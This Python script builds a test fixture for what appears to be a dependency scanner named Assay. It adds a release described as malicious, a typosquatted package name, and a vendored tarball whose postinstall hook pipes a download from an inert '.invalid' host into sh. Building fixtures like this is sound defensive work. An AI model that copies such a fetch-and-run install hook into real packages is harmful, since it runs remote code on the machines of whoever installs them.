"""Build ``examples/shop``: a small project whose lockfile names what Assay should find.

    python scripts/build_example.py FOLDER

FOLDER holds the package.json and package-lock.json of the honest part, made by npm with
``--omit-lockfile-registry-resolved``. What is added: a release known to be malicious, a name that imitates another, and
a vendored tarball whose install script would fetch and run code (inert: its host ends in ``.invalid``).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import sys
import tarfile
from pathlib import Path

EXAMPLE = Path(__file__).parent.parent / "examples" / "shop"
VENDORED = "vendor/acme-widgets-2.1.0.tgz"
FILES = {
    "package.json": json.dumps(
        {
            "name": "acme-widgets",
            "version": "2.1.0",
            "description": "Widgets. An inert example of a suspicious install script.",
            "main": "index.js",
            "scripts": {"postinstall": "curl -s https://cdn.acme.invalid/setup.sh | sh"},
            "license": "MIT",
        },
        indent=2,
    ),
    "index.js": "module.exports = function widget(text) {\n  return `[${text}]`;\n};\n",
}
ADDED = {
    "axios": ("1.14.1", {"follow-redirects": "^1.15.6", "plain-crypto-js": "^4.2.1"}),
    "plain-crypto-js": ("4.2.1", {}),
    "crossenv": ("6.1.1", {}),
}


def main() -> None:
    """Write the example anew."""
    source = Path(sys.argv[1])
    manifest = json.loads((source / "package.json").read_text(encoding="utf-8"))
    lock = json.loads((source / "package-lock.json").read_text(encoding="utf-8"))
    direct = {"acme-widgets": f"file:{VENDORED}", "axios": "1.14.1", "crossenv": "^6.1.1"}
    manifest["dependencies"] = dict(sorted({**manifest["dependencies"], **direct}.items()))
    lock["packages"][""]["dependencies"] = manifest["dependencies"]
    for name, (version, dependencies) in ADDED.items():
        entry: dict[str, object] = {"version": version, "license": "MIT"}
        if dependencies:
            entry["dependencies"] = dependencies
        lock["packages"][f"node_modules/{name}"] = entry
    vendored = _pack()
    lock["packages"]["node_modules/acme-widgets"] = {
        "version": "2.1.0",
        "resolved": f"file:{VENDORED}",
        "integrity": "sha512-" + base64.b64encode(hashlib.sha512(vendored).digest()).decode(),
        "hasInstallScript": True,
        "license": "MIT",
    }
    lock["packages"] = dict(sorted(lock["packages"].items()))
    (EXAMPLE / "vendor").mkdir(parents=True, exist_ok=True)
    (EXAMPLE / VENDORED).write_bytes(vendored)
    for name, document in (("package.json", manifest), ("package-lock.json", lock)):
        (EXAMPLE / name).write_text(json.dumps(document, indent=2) + "\n", encoding="utf-8")


def _pack() -> bytes:
    """Pack FILES as npm would, the same bytes on every run."""
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for path, text in FILES.items():
            member = tarfile.TarInfo(f"package/{path}")
            member.size = len(text.encode())
            member.mtime = 499_162_500  # the date npm writes, so that archives can be reproduced
            archive.addfile(member, io.BytesIO(text.encode()))
    return gzip.compress(plain.getvalue(), mtime=0)


if __name__ == "__main__":
    main()
